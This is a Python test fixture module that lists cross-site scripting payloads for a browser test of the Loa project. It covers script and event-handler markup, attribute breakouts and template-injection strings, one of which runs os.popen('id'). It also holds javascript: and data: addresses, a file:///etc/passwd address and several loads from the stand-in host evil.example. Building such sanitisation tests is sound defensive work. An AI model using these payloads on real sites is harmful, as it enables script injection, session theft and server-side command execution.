"""Attacks that a portal may plant in what Loa stores, of the kinds that OWASP's XSS pages name.

Each calls ``alert`` with a mark, sets ``window.loaPwned``, or asks ``evil.example``; a browser test
looks for all three.
"""

from __future__ import annotations

RUN = "window.loaPwned=1;alert(1)"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style></noscript><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT\t>{RUN}</SCRIPT\n>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.loaPwned=1></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>parent.loaPwned=1</script>'></iframe><iframe src=javascript:{RUN}>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src=javascript:{RUN}>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/b.png)}</style>",
    f"<body onload={RUN}><input autofocus onfocus={RUN}><details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee><select autofocus onfocus={RUN}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<a href=javascript:{RUN}>x</a><a href='java\tscript:{RUN}'>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<template><script>{RUN}</script></template><x-y onclick={RUN} style=animation-name:x>",
    f"<!--><img src=x onerror={RUN}>--><!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]><?xml <img src=x onerror={RUN}>?>",
)
"""As text that some page might take for markup."""

ATTRIBUTES = (
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` onfocus={RUN} `",
    "&quot;&gt;&lt;script&gt;window.loaPwned=1&lt;/script&gt;",
    f"&#x22;&#x3e;<script>{RUN}</script>",
    '\\"><script>window.loaPwned=1</script>',
    "</a></h3></li></ul></main><script>window.loaPwned=1</script>",
)
"""As text that breaks out of an attribute."""

TEMPLATES = (
    "{{ 7*7 }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__}%s%(x)s{articles}",
)
"""As text that a template might run."""

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//evil.example/x",
    f'https://ok.example/"onmouseover="{RUN}',
    f"https://ok.example/'><script>{RUN}</script>",
    "file:///etc/passwd",
)
"""As addresses of pictures, files, and articles."""

TEXTS = (*MARKUP, *ATTRIBUTES, *TEMPLATES)

BIDI = "\u202e<script>window.loaPwned=1</script>\u202c\u0000\ufeff\u2028alert(1)"
